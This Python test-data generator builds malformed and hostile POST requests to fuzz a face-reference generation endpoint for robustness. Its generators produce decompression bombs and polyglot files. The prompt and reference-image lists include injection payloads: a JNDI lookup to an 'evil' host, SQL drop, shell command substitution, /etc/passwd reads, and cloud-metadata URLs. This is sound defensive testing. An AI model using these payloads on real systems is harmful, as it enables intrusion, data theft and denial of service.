"""Hostile requests, generated: equal seeds give equal requests. No real face is in any of them.

`requests(good, seed)` starts from one good record. Each request carries `MARK` where it can, so
that a reply that quotes it is found out.
"""

# Lists of words, many on a line.
# fmt: off

from __future__ import annotations

import base64
import io
import itertools
import json
import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import numpy as np
from PIL import Image

MARK = "zanzibar-quokka"
JSON = "application/json"


@dataclass(frozen=True)
class Hostile:
    """One POST to /invocations. `kind` groups it; `content_type` None sends no such header."""

    kind: str
    body: bytes
    content_type: str | None = JSON


def requests(good: dict[str, Any], seed: int = 0) -> list[Hostile]:
    """All of them, each once."""
    good = {**good, "num_inference_steps": 1, "num_frames": 1, "seed": 1}
    rng = random.Random(seed)
    every = itertools.chain(
        _pictures(good, rng), _numbers(good), _prompts(good), _consents(good), _references(good),
        _wrappings(good), _bodies(good, rng), _content_types(good),
    )
    distinct = {(one.body, one.content_type): one for one in every}
    return list(distinct.values())


def wrapped(record: Any, key: str = "dataframe_records") -> bytes:
    return json.dumps({key: [record]}).encode()


def _changed(kind: str, good: dict[str, Any], **change: Any) -> Hostile:
    return Hostile(kind, wrapped({**good, "prompt": f"a man {MARK}", **change}))


def _with_picture(kind: str, good: dict[str, Any], content: bytes) -> Hostile:
    return _changed(kind, good, reference_images=[base64.b64encode(content).decode()])


# pictures


def saved(pixels: np.ndarray | Image.Image, kind: str = "PNG", **how: Any) -> bytes:
    buffer = io.BytesIO()
    shown = pixels if isinstance(pixels, Image.Image) else Image.fromarray(pixels)
    shown.save(buffer, kind, **how)
    return buffer.getvalue()


def png(width: int, height: int, data: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG file with that header and those compressed rows, whatever they are."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", header), *chunks, (b"IDAT", data), (b"IEND", b"")]
    file = b"\x89PNG\r\n\x1a\n"
    for name, content in parts:
        check = zlib.crc32(name + content)
        file += struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)
    return file


def flat_png(width: int, height: int) -> bytes:
    """A grey picture of any size in few bytes; rows are made one by one."""
    squeeze, row = zlib.compressobj(9), b"\0" + b"\x7f" * (3 * width)
    rows = b"".join(squeeze.compress(row) for _ in range(height))
    return png(width, height, rows + squeeze.flush())


def _pictures(good: dict[str, Any], rng: random.Random) -> Iterator[Hostile]:
    face = Image.open(io.BytesIO(base64.b64decode(good["reference_images"][0]))).convert("RGB")
    files = {kind: saved(face, kind) for kind in ("PNG", "JPEG", "WEBP")}
    for content in files.values():
        for part in range(32):
            yield _with_picture("truncated", good, content[: len(content) * part // 32])
        for _ in range(40):
            flipped = bytearray(content)
            for _ in range(rng.choice((1, 1, 4, 32))):
                flipped[rng.randrange(len(flipped))] ^= 1 << rng.randrange(8)
            yield _with_picture("flipped", good, bytes(flipped))
    yield from _magic(good, files, rng)
    for content in _bombs(face):
        yield _with_picture("bombs", good, content)
    for content in _modes(face, rng):
        yield _with_picture("modes", good, content)
    for content in _scenes(face):
        yield _with_picture("scenes", good, content)


def _magic(good: dict[str, Any], files: dict[str, bytes], rng: random.Random) -> Iterator[Hostile]:
    starts = [
        b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"RIFF\x10\0\0\0WEBPVP8 ", b"GIF89a", b"BM",
        b"%PDF-1.7", b"%!PS-Adobe-3.0 EPSF-3.0", b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"II*\0", b"MM\0*", b"8BPS", b"\0\0\0\x1cftypavif", b"\0\0\0\x18ftypheic", b"\0\0\1\0",
        b"\0\0\0\x18ftypmp42", b"PK\3\4", b"\x1f\x8b\x08", b"\x7fELF", b"MZ", b"#!/bin/sh\n",
    ]
    tails = [b"", b"\0" * 200, rng.randbytes(200), MARK.encode() * 20, files["JPEG"][4:]]
    for start, tail in itertools.product(starts, tails):
        yield _with_picture("magic", good, start + tail)
    others = (b"PK\5\6" + b"\0" * 18, b"<script>1</script>", b"%PDF-1.7")
    for kind, extra in itertools.product(files, others):
        yield _with_picture("polyglots", good, files[kind] + extra)
        yield _with_picture("polyglots", good, extra + files[kind])


def _bombs(face: Image.Image) -> Iterator[bytes]:
    yield flat_png(9400, 9400)
    yield flat_png(5000, 5000)
    squeezed = zlib.compress(b"\0" * 1_000_000, 9)
    for width, height in ((30000, 30000), (65535, 65535), (2**31 - 1, 2**31 - 1), (0, 0), (1, 0)):
        yield png(width, height, squeezed)
    for width, height in ((1, 30000), (30000, 1), (20, 4000), (4000, 20), (64, 4032)):
        yield flat_png(width, height)
    jpeg = bytearray(saved(face, "JPEG"))
    at = jpeg.index(b"\xff\xc0") + 5
    for sides in ((65500, 65500), (0, 0), (65535, 1), (1, 65535)):
        jpeg[at : at + 4] = struct.pack(">HH", *sides)
        yield bytes(jpeg)
    shades = [Image.new("RGB", (64, 64), (shade, 0, 0)) for shade in range(0, 250, 10)]
    for kind in ("GIF", "WEBP", "PNG"):
        yield saved(shades[0], kind, save_all=True, append_images=shades[1:])
    fat = zlib.compress(b"\0" * 50_000_000, 9)
    for name in (b"zTXt", b"iCCP"):
        yield png(64, 64, zlib.compress((b"\0" + b"\x7f" * 192) * 64), (name, b"n\0\0" + fat))
    for side in (1, 2, 8, 15, 16, 17, 31):
        yield flat_png(side, side)


def _modes(face: Image.Image, rng: random.Random) -> Iterator[bytes]:
    yield saved(face.convert("CMYK"), "JPEG")
    for mode in ("1", "L", "LA", "P", "RGBA", "I;16"):
        grey = face.convert("L")
        yield saved(grey.convert("I").convert(mode) if mode == "I;16" else face.convert(mode))
    yield saved(face.convert("P"), transparency=0)
    for turn in (*range(1, 9), 0, 9, 99):
        exif = Image.Exif()
        exif[0x0112] = turn
        yield saved(face, "JPEG", exif=exif)
    for profile in (b"", b"\0" * 128, rng.randbytes(4000), MARK.encode() * 99):
        yield saved(face, "JPEG", icc_profile=profile)
        yield saved(face, "PNG", icc_profile=profile)
    yield saved(face, "JPEG", exif=b"Exif\0\0" + rng.randbytes(300))
    yield saved(face, "WEBP", xmp=f"<x>{MARK}</x>".encode() * 500)
    for kind in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX"):
        yield saved(face, kind)


def _scenes(face: Image.Image) -> Iterator[bytes]:
    noise = np.random.default_rng(0).integers(0, 256, (200, 200, 3), dtype=np.uint8)
    yield saved(noise)
    for shade in (0, 127, 255):
        yield saved(np.full((200, 200, 3), shade, np.uint8))
    for across, down in ((2, 1), (1, 2), (3, 3), (7, 7)):
        crowd = Image.new("RGB", (face.width * across, face.height * down))
        for column, row in itertools.product(range(across), range(down)):
            crowd.paste(face, (column * face.width, row * face.height))
        yield saved(crowd)
    for side in (8, 16, 24, 48):
        small = Image.new("RGB", (800, 800), (90, 120, 90))
        small.paste(face.resize((side, side)), (400, 300))
        yield saved(small)
    for angle in (45, 90, 180, 270):
        yield saved(face.rotate(angle))
    yield saved(face.resize((2400, 1800)), "JPEG")


# fields


def _numbers(good: dict[str, Any]) -> Iterator[Hostile]:
    odd = [
        0, -1, 2, 7, 10, 33, 101, 10_001, 2**31, 2**32, 2**53, 2**63, 2**64, -(2**63), 10**400,
        -(10**4000),
        0.5, -0.0, 1e308, 1e-320, float("nan"), float("inf"), float("-inf"), True, "9", MARK, "",
        [], [1],
        {}, {"$gt": 0}, None,
    ]
    fields = ("num_frames", "num_inference_steps", "seed", "height", "width", "guidance_scale")
    for field, value in itertools.product(fields, odd):
        yield _changed("numbers", good, **{field: value})


def _prompts(good: dict[str, Any]) -> Iterator[Hostile]:
    texts = [
        "", " ", "\t\n", "\u3000", "\u200b", "img", "img img", "a man img img", "mountains",
        "man" * 200,
        "x" * 501, "x" * 100_000, "a man \0", "a man \x1b[31m", "a man \r\nHost: evil",
        "a man \ud800",
        "\udfff a man", "a man \u202e", "a man \u2066x\u2069", "a m\u0301an", "\ufeffa man",
        "a man \ufffe",
        "a man " + "\u0301" * 300, "a man " + "\U0001f600" * 100, "ｍａｎ", "a мan",
        "a man %s%s%n%x",
        "a man {0.__class__}", "a man {{7*7}}", "a man ${jndi:ldap://evil}",
        "a man '; DROP TABLE runs;--",
        "a man ../../etc/passwd", "a man file:///etc/passwd",
        "a man http://169.254.169.254/latest/",
        "<script>alert(1)</script> a man", "a man `id`", "a man $(id)", "a man | cat /etc/passwd",
        "a man \\u0000", "a man \u2028 x", "a man " + "(" * 400, "a man " + "," * 400,
        "a man " + "\\" * 400,
        "A MAN", "man", "a man" + " img" * 100, "woman img man img", "img man", "a man imgimg",
        "a man <extra_id_0> </s> <pad>", "a man " + "a b c d e f g h " * 30,
        "\n".join(["a man"] * 9),
    ]
    for text in texts:
        yield _changed("prompts", good, prompt=text)
    for value in (None, 1, 1.5, True, [], ["a man"], {}, {"a man": 1}, [[["a man"]]]):
        yield _changed("prompts", good, prompt=value)
    for code in (*range(32), 127, *range(0x80, 0xA0, 4), 0xAD, 0x200B, 0x2028, 0xE0001, 0x10FFFF):
        yield _changed("prompts", good, prompt=f"a man {chr(code)} {MARK}")


def _consents(good: dict[str, Any]) -> Iterator[Hostile]:
    basis, evidence = {"basis": "self"}, {"evidence": "x-1"}
    odd = [
        None, "", " ", MARK, "yes", "self", "self:x", 0, 1, True, float("nan"), [], ["self"], {},
        basis, evidence,
        {**basis, "evidence": ""}, {**basis, "evidence": " x"}, {**basis, "evidence": "x" * 65},
        {**basis, "evidence": "../x"}, {**basis, "evidence": "a\nb"}, {**basis, "evidence": 5},
        {**basis, "evidence": None}, {**basis, "evidence": ["x"]}, {**evidence, "basis": "SELF"},
        {**evidence, "basis": "consent"}, {**evidence, "basis": ""}, {**evidence,
        "basis": ["self"]},
        {**evidence, "basis": {"$ne": 1}}, {**basis, **evidence, "text": "t" * 2001},
        {**basis, **evidence, "text": 7}, {**basis, **evidence, "text": "\ud800"},
        {**basis, **evidence, "more": 1}, {**basis, **evidence, MARK: 1}, [{**basis, **evidence}],
        {**basis, **evidence, "text": {"a": 1}}, {"self": "x-1"}, {**basis, "evidence": "ｘ"},
    ]
    for value in odd:
        yield _changed("consents", good, consent=value)


def _references(good: dict[str, Any]) -> Iterator[Hostile]:
    first = good["reference_images"][0]
    lists = [
        None, "", first, 5, True, {}, {"0": first}, [], [first] * 5, [first] * 1000, [None], [5],
        [[first]],
        [first, None], [first, ""], [""], ["%"], ["===="], ["A"], ["AAAA"], [first + "="],
        [first[:-1]],
        [first[:100] + "\n" + first[100:]], [f" {first}"], [first.replace("/", "_").replace("+",
        "-")],
        [f"data:image/png;base64,{first}"], ["file:///etc/passwd"], ["/etc/passwd"],
        ["..%2f..%2fetc"],
        ["http://169.254.169.254/latest/meta-data"], ["http://localhost:5000/ping"],
        ["\\\\evil\\share"],
        ["\ud800"], ["é" * 50], [MARK], [base64.b64encode(MARK.encode()).decode()],
        [{"url": "http://x"}],
        ["A" * 12_000_000], [first, "A" * 400], [first] * 4,
    ]
    for value in lists:
        yield _changed("references", good, reference_images=value)
    for count in range(2, 5):
        yield _changed("references", good, reference_images=[first] * count + [MARK])


# bodies


def _wrappings(good: dict[str, Any]) -> Iterator[Hostile]:
    values: list[Any] = [
        None, 0, 1.5, True, "", MARK, [], {}, [None], [[]], [[good]], [good, good], [1], [MARK],
        {MARK: good},
        [{}], [{MARK: 1}], {"columns": list(good), "data": [list(good.values())] * 2}, good, [good],
        {"columns": list(good), "data": [[]]}, {"columns": [1], "data": [[1]]}, {"data": [[1]]},
        {"columns": ["prompt", "prompt"], "data": [["a", "b"]]}, {"columns": MARK, "data": MARK},
    ]
    keys = ("dataframe_records", "dataframe_split", "inputs", "instances", MARK)
    for key, value in itertools.product(keys, values):
        yield Hostile("wrappings", json.dumps({key: value}).encode())
    for extra in ("params", "signature_name", "id", MARK, "x" * 300, "", "\0", "inputs", "columns"):
        for value in (None, {}, {"seed": 3}, MARK):
            body = {"dataframe_records": [good], extra: value}
            yield Hostile("wrappings", json.dumps(body).encode())
    for name in (
        MARK,
        "x" * 5000,
        "",
        "__class__",
        "Prompt",
        "prompt ",
        "ｐrompt",
        "seed\0",
        "\ud800",
    ):
        yield _changed("wrappings", good, **{name: MARK})
    for name in good:
        yield Hostile("wrappings", wrapped({key: good[key] for key in good if key != name}))
    for value in (None, 1, MARK, [], [good], good, True):
        yield Hostile("wrappings", json.dumps(value).encode())


def _bodies(good: dict[str, Any], rng: random.Random) -> Iterator[Hostile]:
    body = wrapped(good)
    for coding in ("utf-16", "utf-32", "utf-8-sig", "utf-7"):
        yield Hostile("bodies", body.decode().encode(coding))
    brackets = ((b"[", b"]"), (b'{"a":', b"}"))
    for depth, (left, right) in itertools.product((100, 990, 5000, 60_000), brackets):
        yield Hostile("bodies", b'{"inputs":' + left * depth + b"1" + right * depth + b"}")
        yield Hostile("bodies", left * depth)
    for digits in (400, 4300, 4301, 100_000, 3_000_000):
        for number in (
            b"9" * digits,
            b"-" + b"9" * digits,
            b"0." + b"1" * digits,
            b"1e" + b"9" * digits,
        ):
            yield Hostile("bodies", b'{"inputs":[{"seed":' + number + b"}]}")
    strange = [
        b"", b" ", b"\0", b"\xff" * 9, b"{", b"}", b'"', b"nul", b"NaN", b"[" + b"1," * 9999,
                b'{"inputs":[],"inputs":[]}', b'{"inputs":"' + b"\\u0041" * 9999 + b'"}',
                b" " * 200_000,
                b'{"inputs":"\xed\xa0\x80"}', b"<?xml version='1.0'?><a/>",
                b"--x\r\nContent-Disposition: a",
                b"prompt=a&consent=b", b"\x80\x04\x95", b"PAR1" + b"\0" * 50 + b"PAR1", body * 2,
        body + b"x",
    ]
    for odd in strange:
        yield Hostile("bodies", odd)
    for _ in range(60):
        yield Hostile("bodies", body[: rng.randrange(len(body))])
    frame = [at for at, character in enumerate(body) if chr(character) in '{}[]",:']
    for _ in range(120):
        changed = bytearray(body)
        for _ in range(rng.choice((1, 2, 5))):
            changed[rng.choice(frame)] = rng.randrange(256)
        yield Hostile("bodies", bytes(changed))


def _content_types(good: dict[str, Any]) -> Iterator[Hostile]:
    said = [
        None, "", " ", "text/csv", "text/plain", "application/octet-stream", "application/xml",
        MARK,
        "application/vnd.apache.parquet", "multipart/form-data; boundary=x",
        "application/x-www-form-urlencoded",
        "application/json; charset=latin-1", "application/json; charset=utf-16",
        "application/json; a=b",
        "application/json, text/csv", "application/jsonp", "application/json/x", "*/*", "x" * 5000,
        "json",
        "application/json; charset=", "application/pickle", "application/x-python",
        "text/csv; charset=utf-8",
    ]
    for value in said:
        yield Hostile("content types", wrapped(good), value)
        yield Hostile("content types", MARK.encode(), value)
